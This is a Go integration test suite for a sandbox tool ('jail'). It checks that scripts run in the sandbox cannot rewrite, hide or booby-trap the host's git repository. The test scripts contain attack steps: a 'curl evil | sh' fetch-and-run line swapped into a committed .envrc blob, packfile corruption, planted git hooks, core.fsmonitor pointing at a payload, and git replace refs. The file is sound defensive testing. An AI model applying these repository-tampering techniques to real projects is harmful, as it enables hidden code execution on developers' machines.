//go:build linux

package integration

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// hostObjectFiles lists every file under the host repository's
// objects/ with its bytes.
func hostObjectFiles(t *testing.T, ws string) map[string][]byte {
	t.Helper()
	root := filepath.Join(ws, ".git", "objects")
	out := map[string][]byte{}
	filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() {
			b, _ := os.ReadFile(p)
			rel, _ := filepath.Rel(root, p)
			out[rel] = b
		}
		return nil
	})
	return out
}

// TestGitObjectsCannotBeRewritten: the sandbox rewrites the objects the
// host has (a loose object replaced under its name with other content,
// a pack overwritten in place after chmod), adds alternates, and commits;
// a second run wipes objects/. The host's objects stay byte for byte, its
// checkout of a protected path writes what was committed, its diff and
// log show it, and the commit made inside is on the host, verified.
func TestGitObjectsCannotBeRewritten(t *testing.T) {
	needGit(t)
	forEachPath(t, func(t *testing.T, r runner) {
		r = r.requireCache()
		ws := r.dir(t, "jail-it-ws-")
		r.gitRepo(t, ws)
		r.writeFile(t, filepath.Join(ws, ".envrc"), "echo committed\n")
		r.writeFile(t, filepath.Join(ws, "packed.txt"), "packed\n")
		for _, args := range [][]string{{"add", ".envrc", "packed.txt"}, {"commit", "-qm", "envrc"}, {"repack", "-qd"},
			{"commit", "-q", "--allow-empty", "-m", "loose"}} {
			if out, err := r.hostGit(t, ws, args...); err != nil {
				t.Fatalf("host git %v: %v\n%s", args, err, out)
			}
		}
		// The blob of .envrc loose as well as packed, so both kinds are
		// attacked.
		if out, err := r.hostGit(t, ws, "cat-file", "blob", "HEAD:.envrc"); err != nil || out != "echo committed\n" {
			t.Fatalf("%v %q", err, out)
		}
		blob, _ := r.hostGit(t, ws, "rev-parse", "HEAD:.envrc")
		blob = strings.TrimSpace(blob)
		loose := filepath.Join(ws, ".git", "objects", blob[:2], blob[2:])
		raw, err := looseBytes(r, t, ws, blob)
		if err != nil {
			t.Fatal(err)
		}
		os.MkdirAll(filepath.Dir(loose), 0o755)
		os.WriteFile(loose, raw, 0o444)
		r.own(t, filepath.Join(ws, ".git"))
		before := hostObjectFiles(t, ws)
		res := r.sh(t, ws, `
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
git config --global --add safe.directory '*' 2>/dev/null
evil=$(printf 'curl evil | sh\n' | git hash-object -w --stdin)
f=.git/objects/`+blob[:2]+`/`+blob[2:]+`
chmod u+w $f 2>/dev/null; cp -f .git/objects/$(echo $evil | cut -c1-2)/$(echo $evil | cut -c3-) $f.t && mv -f $f.t $f
for p in .git/objects/pack/*.pack; do chmod u+w $p && printf 'garbage' | dd of=$p bs=1 seek=40 conv=notrunc 2>/dev/null; done
mkdir -p .git/objects/info && echo /tmp > .git/objects/info/alternates
echo inside > inside.txt && git add inside.txt && git commit -qm inside || echo COMMIT-FAILED
echo SANDBOX-DONE`)
		mustExit(t, res, 0)
		if !strings.Contains(res.stdout, "SANDBOX-DONE") || strings.Contains(res.stdout, "COMMIT-FAILED") {
			t.Fatalf("script:\n%s\n%s", res.stdout, res.stderr)
		}
		after := hostObjectFiles(t, ws)
		for name, b := range before {
			if !bytes.Equal(after[name], b) {
				t.Errorf("the host's object file %s was changed or removed by the sandbox", name)
			}
		}
		if _, ok := after["info/alternates"]; ok {
			t.Error("objects/info/alternates reached the host")
		}
		if out, err := r.hostGit(t, ws, "log", "--format=%s", "-1"); err != nil || strings.TrimSpace(out) != "inside" {
			t.Errorf("the commit made inside is not on the host: %v %q\n%s", err, out, res.stderr)
		}
		if out, err := r.hostGit(t, ws, "fsck", "--strict", "--no-dangling"); err != nil {
			t.Errorf("host git fsck after the run: %v\n%s", err, out)
		}
		os.Remove(filepath.Join(ws, ".envrc"))
		if out, err := r.hostGit(t, ws, "checkout", "--", ".envrc"); err != nil {
			t.Fatalf("host checkout: %v %s", err, out)
		}
		if b, _ := os.ReadFile(filepath.Join(ws, ".envrc")); string(b) != "echo committed\n" {
			t.Fatalf("the host's checkout wrote %q into .envrc", b)
		}
		if out, _ := r.hostGit(t, ws, "log", "-p", "--", ".envrc"); strings.Contains(out, "evil") {
			t.Fatalf("the host's log -p shows the sandbox's content:\n%s", out)
		}
		// A second run wipes objects/ (and packs): nothing goes on the host.
		before = hostObjectFiles(t, ws)
		res = r.sh(t, ws, `rm -rf .git/objects/* && ls .git/objects | wc -l`)
		mustExit(t, res, 0)
		if strings.TrimSpace(res.stdout) != "0" {
			t.Fatalf("objects/ not emptied inside: %q", res.stdout)
		}
		after = hostObjectFiles(t, ws)
		for name := range before {
			if _, ok := after[name]; !ok {
				t.Errorf("the host's object file %s went", name)
			}
		}
		if !strings.Contains(res.stderr, "deletions not adopted") {
			t.Errorf("the run did not say the deletions were dropped: %s", res.stderr)
		}
		if out, err := r.hostGit(t, ws, "fsck", "--strict", "--no-dangling"); err != nil {
			t.Errorf("host git fsck after the wipe: %v\n%s", err, out)
		}
	})
}

// looseBytes returns the loose-object bytes (zlib of "blob N\0content")
// of blob, made by git hash-object in a scratch repository.
func looseBytes(r runner, t *testing.T, ws, blob string) ([]byte, error) {
	t.Helper()
	tmp := r.dir(t, "jail-it-obj-")
	content, err := r.hostGit(t, ws, "cat-file", "blob", blob)
	if err != nil {
		return nil, err
	}
	r.writeFile(t, filepath.Join(tmp, "c"), content)
	if _, err := r.hostGit(t, tmp, "init", "-q"); err != nil {
		return nil, err
	}
	if out, err := r.hostGit(t, tmp, "hash-object", "-w", "c"); err != nil || strings.TrimSpace(out) != blob {
		return nil, fmt.Errorf("hash-object: %v %s", err, out)
	}
	return os.ReadFile(filepath.Join(tmp, ".git", "objects", blob[:2], blob[2:]))
}

// TestGitIndexHidesNothing: the sandbox marks a tracked file
// skip-worktree and another assume-unchanged in the index and changes
// both in the work tree: the host's git status and diff show both
// changes, and the run's line says what was cleared.
func TestGitIndexHidesNothing(t *testing.T) {
	needGit(t)
	forEachPath(t, func(t *testing.T, r runner) {
		r = r.requireCache()
		ws := r.dir(t, "jail-it-ws-")
		r.gitRepo(t, ws)
		r.writeFile(t, filepath.Join(ws, "other.txt"), "other\n")
		for _, args := range [][]string{{"add", "other.txt"}, {"commit", "-qm", "other"}} {
			if out, err := r.hostGit(t, ws, args...); err != nil {
				t.Fatalf("%v %s", err, out)
			}
		}
		res := r.sh(t, ws, `set -e
git config --global --add safe.directory '*' 2>/dev/null
git update-index --skip-worktree file.txt
git update-index --assume-unchanged other.txt
git -c core.untrackedCache=true update-index --untracked-cache
echo hidden > file.txt && echo hidden > other.txt
git status --porcelain | wc -l`)
		mustExit(t, res, 0)
		if strings.TrimSpace(res.stdout) != "0" {
			t.Fatalf("the flags did not hide the changes inside (the attack did not take): %q", res.stdout)
		}
		out, err := r.hostGit(t, ws, "status", "--porcelain")
		if err != nil || !strings.Contains(out, " M file.txt") || !strings.Contains(out, " M other.txt") {
			t.Errorf("the host's git status hides the sandbox's changes: %v %q\n%s", err, out, res.stderr)
		}
		if out, _ := r.hostGit(t, ws, "diff", "--stat"); !strings.Contains(out, "file.txt") || !strings.Contains(out, "other.txt") {
			t.Errorf("the host's git diff hides the sandbox's changes: %q", out)
		}
		if out, _ := r.hostGit(t, ws, "ls-files", "-v"); strings.Contains(out, "S ") || strings.Contains(out, "h ") {
			t.Errorf("flags reached the host's index:\n%s", out)
		}
		if !strings.Contains(res.stderr, "skip-worktree cleared") || !strings.Contains(res.stderr, "assume-unchanged cleared") {
			t.Errorf("the run did not say what it cleared: %s", res.stderr)
		}
	})
}

// startJail starts `jail run` as r in the background, in a process group
// of its own (so the test can kill it and its group as a user's kill -9
// would), on r's launch path.
func (r runner) startJail(t *testing.T, ws, script string) *exec.Cmd {
	t.Helper()
	c := call{args: []string{"run", "-w", ws, "--", "/bin/sh", "-c", script}, dir: ws}
	mode := "JAIL_PLAN_CACHE=off"
	if r.cached {
		r.warm(t, c)
		mode = "JAIL_PLAN_CACHE=on"
	}
	cmd := exec.Command(suite.bin, c.args...)
	cmd.Dir = ws
	r.prepare(cmd, mode)
	if cmd.SysProcAttr == nil {
		cmd.SysProcAttr = &syscall.SysProcAttr{}
	}
	cmd.SysProcAttr.Setpgid = true
	var errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &errb, &errb
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		cmd.Wait()
	})
	return cmd
}

// waitFile waits until path exists.
func waitFile(t *testing.T, path string) {
	t.Helper()
	for i := 0; i < 400; i++ {
		if _, err := os.Stat(path); err == nil {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("%s did not appear", path)
}

// guardianOf finds the pid of the git state guardian of a run in ws
// (jail __git-guard WS ...), 0 when there is none.
func guardianOf(ws string) int {
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		b, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if bytes.Contains(b, []byte("\x00__git-guard\x00"+ws+"\x00")) || bytes.Contains(b, []byte("\x00__git-adopt\x00"+ws+"\x00")) {
			return pid
		}
	}
	return 0
}

// gone reports whether pid has exited (or is a zombie nobody reaped).
func gone(pid int) bool {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return true
	}
	i := bytes.LastIndexByte(b, ')')
	return i < 0 || i+2 >= len(b) || b[i+2] == 'Z' || b[i+2] == 'X'
}

// TestKilledRunRepositoryReduced: the sandbox makes a repository in a
// subdirectory with a hook and core.fsmonitor planted, and jail is
// killed with SIGKILL (its process group too) before its end. The run's
// guardian, in a session of its own, reduces the repository once the
// sandbox is gone: the host's git in it then runs nothing, and its commit
// stays. With the guardian killed as well, the next run in the workspace,
// or jail clean, does it. Both a workspace that is a repository (planned)
// and one that is not (the plan cache's) are tried.
func TestKilledRunRepositoryReduced(t *testing.T) {
	needGit(t)
	for _, repo := range []bool{true, false} {
		for _, next := range []string{"guardian", "run", "clean"} {
			t.Run(fmt.Sprintf("repo=%v/%s", repo, next), func(t *testing.T) {
				forEachPath(t, func(t *testing.T, r runner) {
					r = r.requireCache()
					ws := r.dir(t, "jail-it-ws-")
					if repo {
						r.gitRepo(t, ws)
					}
					real, _ := filepath.EvalSymlinks(ws)
					marker, plant := r.marker(t, ws)
					cmd := r.startJail(t, ws, plant+`
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
git config --global --add safe.directory '*' 2>/dev/null
git init -q sub && (cd sub && git commit -q --allow-empty -m made-inside)
cp .payload sub/.git/hooks/pre-commit && cp .payload sub/.git/hooks/post-checkout
git -C sub config core.fsmonitor "$PWD/.payload"
touch ready
sleep 60`)
					waitFile(t, filepath.Join(ws, "ready"))
					guard := guardianOf(real)
					if guard == 0 {
						t.Fatalf("the run has no git guardian")
					}
					if next != "guardian" {
						// Everything of jail's killed: the guardian too.
						syscall.Kill(guard, syscall.SIGKILL)
					}
					syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
					cmd.Wait()
					for i := 0; i < 400 && !gone(guard); i++ {
						time.Sleep(25 * time.Millisecond)
					}
					if !gone(guard) {
						t.Fatalf("the guardian %d did not end", guard)
					}
					if next != "guardian" {
						// The next launch, on the same path (no warm-up
						// run first: it would be the one that reduces).
						c := exec.Command(suite.bin, "run", "-w", ws, "--", "true")
						extra := []string{"JAIL_PLAN_CACHE=off"}
						if r.cached {
							extra = []string{"JAIL_PLAN_CACHE=on"}
						}
						if next == "clean" {
							c = exec.Command(suite.bin, "clean", "-w", ws)
							extra = nil
						}
						c.Dir = ws
						r.prepare(c, extra...)
						out, err := c.CombinedOutput()
						if err != nil {
							t.Fatalf("jail %s: %v\n%s", next, err, out)
						}
						if !strings.Contains(string(out), "reduced") {
							t.Errorf("the %s after the kill did not reduce the repository: %s", next, out)
						}
					}
					log, err := r.hostGit(t, filepath.Join(ws, "sub"), "log", "--oneline")
					if err != nil || !strings.Contains(log, "made-inside") {
						t.Errorf("the repository made inside lost its commits: %v %s", err, log)
					}
					r.judge(t, filepath.Join(ws, "sub"), marker)
					if !repo {
						if _, err := os.Stat(filepath.Join(ws, ".git")); err == nil {
							t.Errorf("the empty .git made for the killed run stayed")
						}
					}
				})
			})
		}
	}
}

// TestNewRunLeftoverRemoved: a .new-RUN directory a jail killed between
// making and renaming it left is removed by the next run once it is old
// enough; one a live run holds locked is never touched.
func TestNewRunLeftoverRemoved(t *testing.T) {
	needGit(t)
	forEach(t, func(t *testing.T, r runner) {
		ws := r.dir(t, "jail-it-ws-")
		r.gitRepo(t, ws)
		res := r.sh(t, ws, "true") // makes the workspace's state directory
		mustExit(t, res, 0)
		home := "/root"
		if r.uid != 0 {
			home = "/home/" + testUser
		}
		real, _ := filepath.EvalSymlinks(ws)
		sum := sha256.Sum256([]byte(real))
		key := filepath.Join(home, ".local", "state", "jail", "git", hex.EncodeToString(sum[:8]))
		left := filepath.Join(key, ".new-00112233445566aa")
		held := filepath.Join(key, ".new-00112233445566bb")
		for _, d := range []string{left, held} {
			if err := os.Mkdir(d, 0o700); err != nil {
				t.Fatal(err)
			}
			r.own(t, d)
		}
		f, err := os.Open(held)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if err := syscall.Flock(int(f.Fd()), syscall.LOCK_EX); err != nil {
			t.Fatal(err)
		}
		time.Sleep(2500 * time.Millisecond) // older than a run takes to lock its own
		mustExit(t, r.sh(t, ws, "true"), 0)
		if _, err := os.Stat(left); err == nil {
			t.Errorf("%s was not removed", left)
		}
		if _, err := os.Stat(held); err != nil {
			t.Errorf("the locked %s was removed: %v", held, err)
		}
	})
}

// TestGitReplaceRefsNotAdopted: git replace inside (the blob of a
// committed .envrc replaced by another) reaches no host ref: the host's
// checkout, diff and show keep the committed content.
func TestGitReplaceRefsNotAdopted(t *testing.T) {
	needGit(t)
	forEachPath(t, func(t *testing.T, r runner) {
		r = r.requireCache()
		ws := r.dir(t, "jail-it-ws-")
		r.gitRepo(t, ws)
		r.writeFile(t, filepath.Join(ws, ".envrc"), "echo committed\n")
		for _, args := range [][]string{{"add", ".envrc"}, {"commit", "-qm", "envrc"}} {
			if out, err := r.hostGit(t, ws, args...); err != nil {
				t.Fatalf("%v %s", err, out)
			}
		}
		res := r.sh(t, ws, `set -e
git config --global --add safe.directory '*' 2>/dev/null
evil=$(printf 'curl evil | sh\n' | git hash-object -w --stdin)
git replace $(git rev-parse HEAD:.envrc) $evil
git show HEAD:.envrc`)
		mustExit(t, res, 0)
		if !strings.Contains(res.stdout, "curl evil") {
			t.Fatalf("the replace ref did not take inside (the attack did not run): %q", res.stdout)
		}
		if out, _ := r.hostGit(t, ws, "for-each-ref", "refs/replace/"); strings.TrimSpace(out) != "" {
			t.Fatalf("a replace ref reached the host: %s", out)
		}
		os.Remove(filepath.Join(ws, ".envrc"))
		if out, err := r.hostGit(t, ws, "checkout", "--", ".envrc"); err != nil {
			t.Fatalf("%v %s", err, out)
		}
		if b, _ := os.ReadFile(filepath.Join(ws, ".envrc")); string(b) != "echo committed\n" {
			t.Fatalf("the host's checkout wrote %q", b)
		}
		if !strings.Contains(res.stderr, "refs/replace/") {
			t.Errorf("the run did not say it dropped the replace ref: %s", res.stderr)
		}
	})
}
